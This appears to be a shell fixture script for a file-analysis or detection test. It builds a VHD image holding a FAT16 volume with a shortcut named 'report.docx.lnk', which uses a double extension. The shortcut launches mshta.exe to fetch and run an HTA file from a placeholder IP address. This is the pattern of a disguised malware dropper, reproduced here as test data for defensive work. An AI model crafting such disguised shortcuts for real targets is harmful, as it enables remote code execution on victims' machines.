# A fixed VHD (footer from the VHD spec) whose MBR partition is a FAT16
# volume holding a shortcut with a double extension.
mkfs.fat -F 16 -s 1 -C vol.img 6144 >/dev/null
$PY "$FIXTURES/mklnk.py" a.lnk --target 'C:\Windows\System32\mshta.exe' --args 'http://203.0.113.7/x.hta'
mcopy -i vol.img a.lnk ::report.docx.lnk
$PY "$FIXTURES/mkvhd.py" "$OUT" vol.img --type 0x06
